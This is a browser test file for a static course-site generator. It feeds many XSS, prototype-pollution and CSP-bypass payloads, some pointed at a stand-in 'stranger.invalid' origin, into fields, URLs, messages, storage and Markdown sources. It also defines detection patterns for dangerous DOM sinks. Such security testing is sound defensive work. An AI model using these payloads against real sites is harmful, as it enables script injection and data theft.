"""Attempts to make the site do what it must not: run a stranger's code, take his markup, or ask him for something.

Every door is tried with the same strings. An alarm rings when one of them runs, when it becomes an element, when a page's
policy has to step in, when a dialog opens, and when another origin is asked for anything; the first tests show that it does.
"""

import json
import re
import shutil
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Dialog, expect

from klweb.sitegen import figures, fonts, runtime
from klweb.sitegen.build import build
from klweb.sitegen.problems import BuildError
from klweb.sitegen.serve import Server
from klweb.sitegen.writer import Project, policy
from tests.browser.learning import CHOICE, ELBO, KEY, KL, MAP, NUMERIC, READ, Question, button, goal, keep, stored
from tests.browser.support import PREFIX, Listening, Opener, Reader, Studio, ask, preset, until

pytestmark = pytest.mark.browser

ROOT = Path(__file__).parents[2]
STRANGER = "https://stranger.invalid"

HOSTILE = {
    "script": '<script data-injected>klwebRan("script")</script>',
    "after a quote": '"><img data-injected src=x onerror=\'klwebRan("quote")\'>',
    "after an apostrophe": "'><svg data-injected onload=klwebRan(1)></svg>",
    "out of an attribute": '" data-injected autofocus onfocus="klwebRan(2)',
    "out of a script": "</script><script data-injected>klwebRan(3)</script>",
    "out of raw text": f"</title></textarea></style></noscript><img data-injected src={STRANGER}/x>",
    "out of a comment": "--><img data-injected src=x onerror=klwebRan(4)><!--",
    "as an address": "javascript:klwebRan(5)//",
    "as a stranger's address": f"//{STRANGER.partition('//')[2]}/x.js",
    "a frame": '<iframe data-injected srcdoc="<script>parent.klwebRan(6)</script>"></iframe>',
    "another page": f'<meta data-injected http-equiv=refresh content="0; url={STRANGER}">',
    "another base": f"<base data-injected href={STRANGER}/>",
    "a style": f"<style data-injected>@import '{STRANGER}/x.css'</style><p data-injected style=color:red>",
    "mathematics": "<math data-injected><mi href=javascript:klwebRan(7)>x</mi></math>",
    "as JavaScript": "';klwebRan(8);//${klwebRan(9)}`\\u0027);klwebRan(10)",
    "as a template": "{{ constructor.constructor('klwebRan(11)')() }}<< 7 * 7 >>{% raw %}",
    "as Python": '__import__("js").eval("klwebRan(12)")',
    "as a selector": '"],*,[x="\\',
    "a prototype": "__proto__",
    "a constructor": "constructor",
    "JSON": '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
    "separators": "%3Cb data-injected%3E&learner=1_x&asymmetry=constructor;p:__proto__,=;q:\u2028\u202e\ud7ff%00%",
    "much": "<b data-injected>" * 500,
}
"""What is put wherever somebody else's text can come from."""
TEXTS = list(HOSTILE.values())
MARKUP = [text for name, text in HOSTILE.items() if "data-injected" in text and not name.startswith(("out of", "sep"))]
ENCODED = [quote(text, safe="") for text in TEXTS]

ALARM = """{
  const watch = new MutationObserver(records => {
    for (const {type, target, addedNodes} of records) {
      const elements = type === "attributes" ? [target] : [...addedNodes].filter(node => node instanceof Element);
      for (const element of elements.flatMap(one => [one, ...one.querySelectorAll("*")])) {
        if (element.matches("[data-injected], base, meta[http-equiv=refresh], iframe[srcdoc]")) {
          klwebAlarm(`injected: ${element.outerHTML.slice(0, 200)}`);
        }
      }
    }
  });
  watch.observe(document, {subtree: true, childList: true, attributes: true, attributeFilter: ["data-injected"]});
}"""
"""Rings when a hostile text becomes an element, were it for a moment."""

LOOK_AROUND = """() => {
  const found = [];
  for (const element of document.querySelectorAll("*")) {
    const {tagName, attributes} = element;
    for (const {name, value} of attributes) {
      if (name.startsWith("on") || /^\\s*(javascript|vbscript):/i.test(value) && name !== "value") found.push(`${tagName} ${name}=${value}`);
    }
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "STYLE"].includes(tagName)) found.push(tagName);
    if (tagName === "SCRIPT" && !element.src && element.type !== "application/json") found.push(element.outerHTML.slice(0, 200));
  }
  if ({}.polluted !== undefined) found.push("every object has a new property");
  return found;
}"""
"""What no page may hold, also after it was tampered with."""


def alarmed(reader: Reader) -> Reader:
    """Fit a page that is still empty with the alarm."""

    def refuse(dialog: Dialog) -> None:
        reader.problems.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    context = reader.page.context
    context.expose_binding("klwebRan", lambda _source, *which: reader.problems.append(f"a script ran: {which}"))
    context.expose_binding("klwebAlarm", lambda _source, text: reader.problems.append(text))
    context.add_init_script(ALARM)
    reader.page.on("dialog", refuse)
    return reader


def unharmed(reader: Reader) -> None:
    """Assert that the alarm did not ring, and that the page holds nothing that it should not."""
    problems = reader.take_problems() + reader.page.evaluate(LOOK_AROUND)
    assert not problems, "\n".join(problems)


@pytest.fixture(scope="module")
def live(studio: Studio) -> Iterator[Reader]:
    """Return a reader for many attempts, with Python."""
    reader = alarmed(studio.open(reduced_motion="reduce"))
    yield reader
    studio.close(reader)


@pytest.fixture(scope="module")
def plain(studio: Studio) -> Iterator[Reader]:
    """Return a reader for many attempts, with Python's files refused."""
    reader = alarmed(studio.open(python=False, reduced_motion="reduce"))
    yield reader
    studio.close(reader)


# ── what is written in the files ─────────────────────────────────────────────────────────────


class Tags(HTMLParser):
    """The elements of one file, with their attributes, and the text of its scripts."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))
        if tag == "script":
            self.scripts.append("")

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script":
            self.scripts[-1] += data


LOADED = {"src", "srcset", "data", "poster", "background", "action", "formaction", "ping", "srcdoc", "xlink:href"}
HARMLESS = re.compile(r"(?!//)(?![a-z][a-z0-9+.-]*:)", re.IGNORECASE)
"""An address of the site's own, relative to the page."""


def faults(html: str, expected: str) -> Iterator[str]:
    """Find what the policy would have to stop, and what it could not."""
    tags = Tags(html)
    metas = [attrs for tag, attrs in tags.found if tag == "meta" and "http-equiv" in attrs]
    if [(meta["http-equiv"], meta["content"]) for meta in metas] != [("Content-Security-Policy", expected)]:
        yield f"its http-equiv elements are {metas}"
    # A policy holds for what follows it.
    first = next(index for index, (tag, _) in enumerate(tags.found) if tag in ("script", "link", "body", "title"))
    if ("meta", metas[0]) not in tags.found[:first]:
        yield "something stands before its policy"
    for tag, attrs in tags.found:
        if tag in ("style", "base", "iframe", "frame", "object", "embed", "applet", "animate", "set"):
            yield f"<{tag}>"
        if tag == "script" and "src" not in attrs and attrs.get("type") != "application/json":
            yield "an inline script"
        if tag == "link" and attrs["rel"] != "canonical" and not HARMLESS.match(attrs["href"]):
            yield f"it loads {attrs['href']}"
        if (
            tag == "a"
            and not re.match(r"https?://|mailto:", attrs.get("href", ""))
            and not HARMLESS.match(attrs.get("href", ""))
        ):
            yield f"it leads to {attrs['href']}"
        for name, value in attrs.items():
            if name == "style" or name.startswith("on"):
                yield f"<{tag} {name}={value!r}>"
            if name in LOADED and not HARMLESS.match(value):
                yield f"it loads {value}"
    yield from (f"a script holds {text[:80]}" for text in tags.scripts if re.search(r"<[/!a-z]", text, re.IGNORECASE))


def test_every_page_has_the_policy_and_nothing_that_it_would_have_to_stop(site: Path) -> None:
    front = (site / "index.html").read_text(encoding="utf-8")
    base = re.search(r'<link rel="canonical" href="([^"]*)"', front)
    expected = policy(base[1] if base else "")
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 200
    found = {
        str(page.relative_to(site)): problems
        for page in pages
        if (problems := list(faults(page.read_text(encoding="utf-8"), expected)))
    }
    assert not found


def test_pictures_that_may_be_opened_alone_hold_no_script(site: Path) -> None:
    pictures = list(site.rglob("*.svg"))
    assert pictures
    for picture in pictures:
        tags = {tag: attrs for tag, attrs in Tags(picture.read_text(encoding="utf-8")).found}
        assert not {"script", "foreignobject", "animate", "set", "use", "style"} & tags.keys(), picture
        assert not [name for attrs in tags.values() for name in attrs if name.startswith("on") or "href" in name], (
            picture
        )


SINKS = re.compile(
    r"\b(?:inner|outer)HTML\s*\+?=|insertAdjacentHTML|document\.write|setHTML|createContextualFragment|DOMParser"
    r"|srcdoc|\beval\(|new Function|\bFunction\(|set(?:Timeout|Interval)\(\s*[\"'`]|document\.cookie|sendBeacon"
)


def test_no_script_of_the_site_makes_markup_or_code_out_of_text() -> None:
    scripts = sorted((ROOT / "src/klweb/browser").rglob("*.js"))
    assert len(scripts) > 30
    found = [
        f"{script.name}: {match[0]}"
        for script in scripts
        for match in SINKS.finditer(script.read_text(encoding="utf-8"))
    ]
    assert not found


# ── the alarm, and the policy behind everything else ─────────────────────────────────────────


@pytest.fixture(scope="module")
def stranger(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Listening]:
    """Return a server of another origin that remembers what it was asked for."""
    folder = tmp_path_factory.mktemp("stranger")
    for name, text in {
        "x.js": "klwebRan('x.js')",
        "x.css": "p{}",
        "x.html": "<p>Here I am.</p>",
        "x.json": "{}",
    }.items():
        (folder / name).write_text(text)
    with Listening(folder, 0) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.mark.parametrize("text", MARKUP)
def test_the_alarm_rings_where_markup_gets_in(plain: Reader, text: str) -> None:
    plain.visit("404.html").page.evaluate(
        "text => document.body.append(document.createRange().createContextualFragment(text))", text
    )
    until(plain.page, lambda: any("injected" in item for item in plain.problems), "the alarm rings")
    assert not [item for item in plain.take_problems() if "ran" in item]


# What somebody would try who had found a way in after all: (JavaScript, the directive that stops it).
MAKE = "const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));"
BREAKS = {
    "inline script": ("add('script', {text: 'klwebRan(1)'})", "script-src-elem"),
    "module": ("add('script', {type: 'module', text: 'klwebRan(1)'})", "script-src-elem"),
    "handler": (
        "add('img', {src: 'data:,'}); document.body.lastChild.setAttribute('onerror', 'klwebRan(1)')",
        "script-src-attr",
    ),
    "link": ("add('a', {href: 'javascript:klwebRan(1)'}); document.body.lastChild.click()", "script-src-elem"),
    "eval": ("try { (0, eval)('klwebRan(1)') } catch {}", "script-src"),
    "function": ("try { new Function('klwebRan(1)')() } catch {}", "script-src"),
    "timer": ("setTimeout('klwebRan(1)')", "script-src"),
    "blob": ("add('script', {src: URL.createObjectURL(new Blob(['klwebRan(1)']))})", "script-src-elem"),
    "data": ("add('script', {src: 'data:text/javascript,klwebRan(1)'})", "script-src-elem"),
    "import": ("import('data:text/javascript,klwebRan(1)').catch(() => {})", "script-src-elem"),
    "frame in the page": ("add('iframe', {srcdoc: '<script>parent.klwebRan(1)<' + '/script>'})", "script-src-elem"),
    "frame with a script": ("add('iframe', {src: 'javascript:parent.klwebRan(1)'})", "script-src-elem"),
    "style": ("add('style', {textContent: 'p { color: red }'})", "style-src-elem"),
    "style attribute": ("document.body.setAttribute('style', 'color: red')", "style-src-attr"),
    "stranger's script": ("add('script', {src: there + 'x.js'})", "script-src-elem"),
    "stranger's module": ("import(there + 'x.js').catch(() => {})", "script-src-elem"),
    "stranger's style": ("add('link', {rel: 'stylesheet', href: there + 'x.css'})", "style-src-elem"),
    "stranger's picture": ("add('img', {src: there + 'x.svg'})", "img-src"),
    "stranger's font": ("new FontFace('x', `url(${there}x.woff2)`).load().catch(() => {})", "font-src"),
    "stranger's frame": ("add('iframe', {src: there + 'x.html'})", "frame-src"),
    "stranger's object": ("add('object', {data: there + 'x.html'})", "object-src"),
    "stranger's film": ("add('video', {src: there + 'x.mp4'})", "media-src"),
    "stranger's manifest": ("add('link', {rel: 'manifest', href: there + 'x.json'})", "manifest-src"),
    "fetch": ("fetch(there + 'x.json').catch(() => {})", "connect-src"),
    "beacon": ("navigator.sendBeacon(there + 'x.json', document.title)", "connect-src"),
    "socket": ("try { new WebSocket(there.replace('http', 'ws')) } catch {}", "connect-src"),
    "events": ("new EventSource(there + 'x.json')", "connect-src"),
    "ping": ("add('a', {href: '#x', ping: there + 'x.json'}); document.body.lastChild.click()", "connect-src"),
    "form": ("add('form', {action: there + 'x.html'}); document.body.lastChild.submit()", "form-action"),
    "base": ("add('base', {href: there})", "base-uri"),
}
STOPPED = r"^policy|^console|^injected|^page error: .*(Worker|script)|^request failed: .*csp|^request to another origin"


def test_the_policy_stops_what_got_in(open_page: Opener, stranger: Listening) -> None:
    reader = alarmed(open_page(python=False))
    missed = []
    for path in ("about/", "embed/asymmetry/"):
        reader.visit(path)
        for name, (attempt, directive) in BREAKS.items():
            reader.take_problems()
            # In a task of the page's own: what a debugger runs is not held to a page's policy.
            reader.page.evaluate(
                f"there => new Promise(done => setTimeout(() => {{ {MAKE} {attempt}; setTimeout(done) }}))",
                stranger.url,
            )
            wanted = f"policy: {directive} "
            try:
                until(reader.page, lambda wanted=wanted: any(wanted in item for item in reader.problems), name, 2)
            except AssertionError:
                missed.append(f"{path} {name}: {reader.problems}")
            assert not [item for item in reader.problems if "ran" in item.partition(":")[0]], name
    assert not missed, "\n".join(missed)
    assert stranger.asked == []
    reader.allow(STOPPED)


# ── everything that can be typed ─────────────────────────────────────────────────────────────

TYPE = """async texts => {
  const fields = [...document.querySelectorAll("input, textarea, select")].filter(one => one.type !== "file");
  for (const [index, field] of fields.entries()) {
    // A range, a box and a list hold nothing of ours; a number is set as it would be in a browser that knows no such field.
    if (field instanceof HTMLInputElement && !["radio", "checkbox"].includes(field.type)) field.type = "text";
    for (let turn = 0; turn < 3; turn++) {
      field.value = texts[(3 * index + turn) % texts.length];
      for (const type of ["input", "change"]) field.dispatchEvent(new Event(type, {bubbles: true}));
      field.form?.requestSubmit();
      await new Promise(done => setTimeout(done, 5));
    }
  }
  return fields.length;
}"""


@pytest.mark.parametrize("path", ["", "six-ways/", MAP, KL, "practice/", "embed/likelihood/"])
def test_no_field_takes_markup_or_code(live: Reader, path: str) -> None:
    page = live.visit(path).page
    shown = page.locator("figure.widget").evaluate_all("all => all.map(one => one.dataset.widget)")
    if shown:
        live.figure(shown[0]).live()
    page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
    fields = page.evaluate(TYPE, TEXTS)
    assert fields > (10 if shown else 0)
    unharmed(live)
    for name in dict.fromkeys(shown):
        live.figure(name).reset()
    unharmed(live)


def test_no_text_that_is_looked_for_is_taken_for_markup(plain: Reader) -> None:
    page = plain.visit(MAP).page
    field = page.locator("[data-words]")
    expect(field).to_be_enabled()
    for text in TEXTS:
        field.fill(text)
        expect(page.locator("[data-count]")).to_contain_text("“")
    field.fill("elbo")
    expect(page.locator('[data-find] li[data-topic="elbo"]')).to_be_visible()
    unharmed(plain)


def test_no_answer_is_taken_for_markup_or_code(plain: Reader) -> None:
    page = plain.visit(KL).page
    for name in (NUMERIC, READ):
        question = Question(page, name)
        for text in TEXTS:
            assert not question.says(text).startswith("Right")
    coins = Question(page, NUMERIC)
    assert coins.says(f"{coins.value():.4f}").startswith("Right.")
    assert set(stored(page)["practice"]) <= {NUMERIC, READ}
    unharmed(plain)


# ── everything that an address can say ───────────────────────────────────────────────────────


def goes(reader: Reader, *fragments: str) -> None:
    """Put fragments into the address one after another, as links on the page would, each with time to act."""
    reader.page.evaluate(
        """async fragments => {
          for (const fragment of fragments) {
            location.hash = fragment;
            await new Promise(done => addEventListener("hashchange", done, {once: true}) ?? setTimeout(done, 40));
            await new Promise(done => setTimeout(done, 15));
          }
        }""",
        list(fragments),
    )


def test_no_state_in_an_address_gets_in(live: Reader) -> None:
    figure = live.visit().figure("asymmetry").live()
    for text, encoded in zip(TEXTS, ENCODED, strict=True):
        goes(live, f"asymmetry={encoded}", f"asymmetry={text}", f"{encoded}={encoded}")
        goes(live, "asymmetry=edit:p;p:0.5,0.25,0.25;q:0.25,0.25,0.5", f"asymmetry=p:{encoded},1;q:1,1")
        figure.says("can’t be shown|no example")
    figure.reset()
    # What a page of ours wrote into the browser's history is read back as if somebody else had.
    live.page.evaluate(
        """texts => {
          for (const text of texts) {
            history.replaceState({klweb: {asymmetry: text, [text]: text}}, "");
            dispatchEvent(new PopStateEvent("popstate", {state: history.state}));
          }
        }""",
        TEXTS,
    )
    figure.says("no example|can’t be shown")
    figure.reset()
    unharmed(live)


def test_no_shared_pair_in_an_address_gets_in(live: Reader) -> None:
    figure = live.visit("six-ways/").figure("surprise").live()
    for encoded in ENCODED:
        goes(
            live,
            f"pair={encoded}",
            f"apart={encoded}&pair=p:{encoded},1;q:1,{encoded}",
            f"surprise={encoded}&pair=__proto__:1",
        )
    unharmed(live)
    goes(live, "pair=p:0.5,0.5;q:0.25,0.75")
    until(live.page, lambda: figure.look()["readouts"]["kl_pq"]["text"].startswith("0.2075"), "the pair is shown")
    unharmed(live)


def test_no_question_in_an_address_gets_in(plain: Reader) -> None:
    page = plain.visit(KL).page
    question = Question(page, CHOICE)
    until(page, lambda: question.find("fieldset:not([disabled])").count() > 0, "questions come to life", 15)
    for encoded in ENCODED:
        goes(plain, f"practice={encoded}", f"practice={CHOICE}:{encoded}", f"practice={encoded}:{encoded}")
    expect(page.locator(".question-note").filter(has_text="This link").first).to_be_visible()
    assert question.root.get_attribute("data-seed") == "1"
    question.press("Check")
    expect(question.verdict).to_have_text("Choose one of them first.")
    unharmed(plain)


@pytest.mark.parametrize("path", ["", MAP, KL, "404.html"])
def test_no_query_of_a_page_gets_in(plain: Reader, path: str) -> None:
    names = ("theme", "state", "preset", "hide", "lock", "ask", "q", "learner", "asymmetry", "__proto__")
    query = "&".join(f"{name}={quote(text)}" for name in names for text in TEXTS[:-1])
    plain.visit(f"{path}?{query}")
    expect(plain.page.locator("h1")).to_be_attached()
    assert plain.page.locator("html").get_attribute("data-theme") is None
    unharmed(plain)


@pytest.mark.parametrize("name", HOSTILE)
def test_no_option_of_an_embed_gets_in(plain: Reader, name: str) -> None:
    text = quote(HOSTILE[name], safe="")
    option = "preset" if len(name) % 2 else "state"
    plain.visit(
        f"embed/asymmetry/?{option}={text}&theme={text}&hide={text},p&lock=q,{text}&ask={text}&{text}={text}#{text}"
    )
    figure = plain.figure("asymmetry")
    figure.says("no example|can’t be shown|Python")
    assert plain.page.locator("html").get_attribute("data-theme") is None
    figure.preset("identical").click()
    figure.shows(preset("asymmetry", "identical"))
    expect(figure.find('[data-list="p"]')).to_be_hidden()
    unharmed(plain)


def test_no_state_of_an_embed_gets_to_python_unread(live: Reader) -> None:
    for text in ('p:__import__("js"),1;q:1,1', "edit:eval;p:1,1;q:1,1", "__class__:1;p:1;q:1", "p:1e999,1;q:1,nan"):
        figure = live.visit(f"embed/asymmetry/?state={quote(text)}").figure("asymmetry")
        figure.says("can’t be shown")
        figure.shows(preset("asymmetry"))
        assert not ask(op="decode", widget="asymmetry", text=text)["ok"]
    unharmed(live)


# ── messages ─────────────────────────────────────────────────────────────────────────────────

HOST = """<!doctype html><html lang="en"><link rel="icon" href="data:,"><title>A course</title><h1>A course</h1>
<iframe id="frame" title="A figure" {sandbox} src="{src}" width="720" height="600"></iframe>"""

SEND = """async texts => {
  const {contentWindow} = document.getElementById("frame");
  const send = message => contentWindow.postMessage(message, "*");
  const types = ["state", "preset", "set", "set-state", "set-preset", "load", "eval", "start", "call", "answer", "ready",
    "error", "resize", "config", "__proto__"];
  for (const text of texts) {
    send(text);
    send(JSON.stringify({source: "klweb", type: text, state: text}));
    send({[text]: text, source: text, type: text});
    for (const type of types) {
      send({source: "klweb", target: "klweb", widget: "asymmetry", type, tag: type, op: text, id: text, name: text, value: text,
        state: text, preset: text, text, message: text, link: text, url: text, manifestUrl: text, image: {url: text}});
      send({source: "klweb", type, state: {p: [text, 1], q: text, edit: text, [text]: text}, preset: [text]});
      send({source: "klweb", type, state: JSON.parse('{"__proto__": {"polluted": 1}, "p": {"length": 1e9}}')});
    }
    await new Promise(done => setTimeout(done));
  }
  const round = []; round.push(round);
  const {port1} = new MessageChannel();
  for (const odd of [null, undefined, NaN, -0, 1n, new Date(NaN), /x/, new Map([[round, round]]), round, new ArrayBuffer(8),
    new Blob(["klwebRan(1)"]), new Error("x"), "x".repeat(1e6), Array(1e5).fill({source: "klweb"})]) {
    send(odd);
    send({source: "klweb", type: "state", state: odd});
  }
  contentWindow.postMessage({source: "klweb", type: "start", port: port1}, "*", [port1]);
}"""


@pytest.mark.parametrize("sandbox", ["", 'sandbox="allow-scripts"'], ids=["framed", "sandboxed"])
def test_no_message_from_the_page_around_gets_in(
    open_page: Opener, server: Server, stranger: Listening, sandbox: str
) -> None:
    reader = alarmed(open_page(python=False, origins=(stranger.url,)))
    src = f"{server.url}embed/asymmetry/"
    name = "sandboxed.html" if sandbox else "framed.html"
    (stranger.site / name).write_text(HOST.format(sandbox=sandbox, src=src))
    page = reader.page
    page.goto(stranger.url + name)
    stranger.asked.clear()
    frame = page.frames[1]
    frame.locator('button[data-preset="identical"]').click()
    told = frame.locator("output[data-readout], [data-summary]")
    expect(told.first).to_contain_text("0.0000 bits")
    before = told.all_inner_texts()
    page.evaluate(SEND, TEXTS)
    page.wait_for_timeout(300)
    assert told.all_inner_texts() == before
    frame.locator('button[data-preset="mirror-image"]').click()
    shown = preset("asymmetry", "mirror-image")["view"]["readouts"][0]
    expect(frame.locator(f'output[data-readout="{shown["name"]}"]')).to_contain_text(shown["text"])
    assert frame.evaluate(LOOK_AROUND) == []
    assert stranger.asked == []
    assert not (problems := reader.take_problems()), "\n".join(problems)


# ── marks that somebody sends ────────────────────────────────────────────────────────────────

RECORD = {"box": 1, "due": 1, "seen": 1, "right": 1, "last": 1, "missed": True}


def files() -> Iterator[str]:
    """Make files of marks that hold a hostile text at every place."""
    for text in TEXTS:
        yield text
        for part in (
            {"known": [text]},
            {"goals": [text]},
            {"practice": {text: RECORD}},
            {"unknown": {"known": [text]}},
        ):
            yield json.dumps({"version": 1} | part)
        yield json.dumps({"version": text, "known": text, "goals": {text: text}, "practice": [text]})
        yield json.dumps({"version": 1, "practice": {NUMERIC: {name: text for name in RECORD}}})
    yield '{"version": 1, "known": ["elbo"], "__proto__": {"polluted": 1}, "practice": {"__proto__": {"polluted": 1}}}'


def test_no_file_of_marks_gets_in(open_page: Opener) -> None:
    reader = alarmed(open_page(python=False, reduced_motion="reduce")).visit(MAP)
    page = reader.page
    expect(page.locator('[data-keep] input[type="file"]')).to_be_enabled()
    # Each as a reader would choose it, but without a file on a disk.
    said = page.evaluate(
        """async texts => {
          const field = document.querySelector('[data-keep] input[type="file"]');
          const reply = field.closest("[data-keep]").querySelector("[data-reply]");
          const said = [];
          for (const text of texts) {
            const chosen = new DataTransfer();
            chosen.items.add(new File([text], "<img data-injected src=x onerror=klwebRan(1)>.json"));
            field.files = chosen.files;
            field.dispatchEvent(new Event("change"));
            const deadline = Date.now() + 2000;
            while (field.value && Date.now() < deadline) await new Promise(done => setTimeout(done));
            said.push(reply.textContent);
          }
          return said;
        }""",
        list(files()),
    )
    refused = [text for text in said if "Nothing has changed." in text]
    named = [text for text in said if "constructor" in text]
    assert len(refused) + len(named) == len(said), said
    assert len(named) == 3, "a name that a topic could have is kept, and nothing else is"
    marks = stored(page)
    assert (marks["known"], marks["goals"]) == ([], [])
    assert marks["unknown"] == {"known": ["constructor"], "goals": ["constructor"]}
    assert list(marks["practice"]) == ["constructor"]
    unharmed(reader)
    button(page, "Graduate").click()
    goal(page, "elbo").click()
    expect(page.locator("[data-goals]")).to_contain_text(ELBO)
    unharmed(reader)


def test_no_link_of_marks_gets_in(plain: Reader) -> None:
    page = plain.visit(MAP).page
    arrived = page.locator("[data-arrived]")
    expect(page.locator('[data-keep] input[type="file"]')).to_be_enabled()
    for encoded in ENCODED:
        goes(
            plain,
            f"learner={encoded}",
            f"learner=1_{encoded}",
            f"learner=1__{encoded}_",
            f"learner=1___{encoded}~1~1~1~1~1~1",
        )
        expect(arrived).to_be_visible()
        assert "learner" not in page.evaluate("location.hash")
    goes(plain, "learner=1_counting__")
    expect(arrived).to_contain_text("1 topic known.")
    button(page, "Not now").click()
    assert not stored(page)["known"] if stored(page) else True
    unharmed(plain)


@pytest.mark.parametrize("kind", ["texts", "names", "kinds"])
def test_nothing_that_somebody_put_into_the_storage_gets_in(open_page: Opener, kind: str) -> None:
    stores = {
        "texts": TEXTS[0],
        "names": json.dumps({
            "version": 1, "known": [*TEXTS, "counting"], "goals": [*TEXTS, "elbo"], "practice": dict.fromkeys(TEXTS, RECORD),
            "unknown": {"known": TEXTS, "goals": TEXTS},
        }),
        "kinds": json.dumps({
            "version": 1, "known": {"length": 2, "0": TEXTS}, "goals": TEXTS[0], "practice": {NUMERIC: dict.fromkeys(RECORD, TEXTS[1])},
        }),
    }  # fmt: skip
    reader = alarmed(open_page(python=False, reduced_motion="reduce"))
    keep(reader, stores[kind])
    reader.page.evaluate(
        "text => { for (const key of ['klweb-theme', 'klweb-offline']) localStorage.setItem(key, text); }", TEXTS[1]
    )
    for path in (MAP, "practice/", KL, ""):
        reader.visit(path)
        expect(reader.page.locator("#theme")).to_have_value("auto")
        unharmed(reader)
    page = reader.visit("topics/counting/").page
    know = page.locator('[data-marks] [data-know="counting"]')
    expect(know).to_be_enabled()
    expect(know).to_have_attribute("aria-pressed", str(kind == "names").lower())
    know.click()
    expect(know).to_have_attribute("aria-pressed", str(kind != "names").lower())
    unharmed(reader)


# ── what stands in the sources ───────────────────────────────────────────────────────────────

REFUSED = {
    "script": "<script>klwebRan(1)</script>",
    "module": '<script type="module">klwebRan(1)</script>',
    "handler": "Words.\n\n<p onclick='klwebRan(1)'>Press</p>",
    "attribute list": 'Words\n{: onclick="klwebRan(1)" }',
    "style": "<p style='color: red'>Red</p>",
    "style element": "<style>p { color: red }</style>",
    "link": "[Press](javascript:klwebRan(1))",
    "disguised link": "[Press](&#x6a;ava&#10;script:klwebRan(1))",
    "formula": "Cost $\\href{javascript:klwebRan(1)}{x}$.",
    "styled formula": "Cost $\\style{color:red}{x}$.",
    "picture": f"![A picture]({STRANGER}/x.png)",
    "frame": f'<iframe title="x" src="{STRANGER}/"></iframe>',
    "base": f'<base href="{STRANGER}/">',
    "button": '<button formaction="javascript:klwebRan(1)">Press</button>',
    "note": 'A note.[^1]\n\n[^1]: <b onmouseover="klwebRan(1)">x</b>',
}
"""Markdown may hold HTML, since its authors write the site; what the policy would stop is no mistake to be found by readers."""

PLAIN = {name: text for name, text in HOSTILE.items() if name not in ("much", "separators", "as a template")}


def write_project(root: Path, pages: dict[str, str], **front: str) -> Project:
    """Write a small project whose front matter is hostile where `front` says nothing else."""
    shutil.copytree(ROOT / "templates", root / "templates")
    (root / "content").mkdir()
    texts = list(PLAIN.values())
    for order, (name, body) in enumerate(pages.items()):
        values = (
            dict.fromkeys(("title", "nav", "lead"), " ".join(texts))
            | {"description": texts[order % len(texts)][:160]}
            | front
        )
        if name == "topics":
            values["layout"] = "topics"
        matter = "".join(f"{key}: {json.dumps(value)}\n" for key, value in values.items())
        (root / "content" / f"{name}.md").write_text(f"---\norder: {order}\n{matter}---\n{body}\n", encoding="utf-8")
    return Project(root, root.parent / "site")


def write_topics(root: Path) -> None:
    """Write two topics with a hostile text wherever there is one to write."""
    text = " ".join(PLAIN.values())
    written = json.dumps(text)  # as TOML writes it, too
    (root / "content" / "topics.toml").write_text(
        "".join(
            f'[{name}]\ntitle = {json.dumps(f"{name} {text}")}\nlevel = "graduate"\nminutes = 5\nsummary = {written}\n'
            f'keywords = [{written}]\nidea = "Plain."\n{needs}'
            for name, needs in (("first", ""), ("second", f"[second.needs]\nfirst = {written}\n"))
        ),
        encoding="utf-8",
    )


@pytest.fixture
def quick(monkeypatch: pytest.MonkeyPatch) -> None:
    """Leave out of a build what takes its time and shows nothing that an author wrote."""
    packed = runtime.Packed({"runtime/manifest.0123456789ab.json": b"{}"}, "runtime/manifest.0123456789ab.json", [])
    monkeypatch.setattr(runtime, "pack", lambda _root, _report: packed)
    monkeypatch.setattr(fonts, "build", lambda _characters, _root, _prefix: fonts.FontSet({}, "", ()))
    monkeypatch.setattr(figures, "prepare_all", dict)


@pytest.mark.usefixtures("quick")
def test_sources_that_hold_scripts_or_strangers_are_refused(tmp_path: Path) -> None:
    pages = {"index": "Words."} | {name.replace(" ", "-"): text for name, text in REFUSED.items()}
    formulas = {name for name in pages if "formula" in name}
    found: list[str] = []
    # Formulas are rendered before anything else is checked.
    for number, chosen in enumerate((pages.keys() - formulas, formulas | {"index"})):
        (tmp_path / str(number)).mkdir()
        project = write_project(
            tmp_path / str(number) / "project",
            {name: pages[name] for name in sorted(chosen)},
            title="T",
            nav="N",
            lead="",
            description="D",
        )
        with pytest.raises(BuildError) as caught:
            build(project, lambda _line: None)
        found += [str(problem) for problem in caught.value.problems]
        assert not project.target.exists()
    assert [name for name in pages if not any(f"{name}.md:" in item or f"{name}/" in item for item in found)] == [
        "index"
    ]


@pytest.mark.usefixtures("quick")
def test_words_of_the_sources_stay_words(tmp_path: Path, open_page: Opener) -> None:
    ticks = "\n\n".join(f"## A `` {text} ``\n\nHere ``{text}`` it is.\n\n    {text}" for text in PLAIN.values())
    project = write_project(
        tmp_path / "project", {"index": ticks, "topics": "Words.", "other": "Cost $\\text{<b data-injected>}$."}
    )
    write_topics(project.root)
    build(project, lambda _line: None)
    for page in project.target.rglob("*.html"):
        assert list(faults(page.read_text(encoding="utf-8"), policy(""))) == [], page

    with Server(project.target, 0, prefix=PREFIX) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        reader = alarmed(open_page(python=False, url=server.url, reduced_motion="reduce"))
        for path in ("", "other/", "topics/first/", "topics/second/"):
            reader.visit(path)
            title = " ".join(PLAIN.values())
            expect(reader.page.locator("h1")).to_contain_text(title[:60])
            assert title[-40:] in reader.page.title()
            expect(reader.page.locator("#theme")).to_be_enabled()
            unharmed(reader)
        page = reader.visit("topics/").page
        page.locator("[data-group] > summary").click()
        goal(page, "second").click()
        expect(page.locator("[data-goals]")).to_contain_text("<script data-injected>")
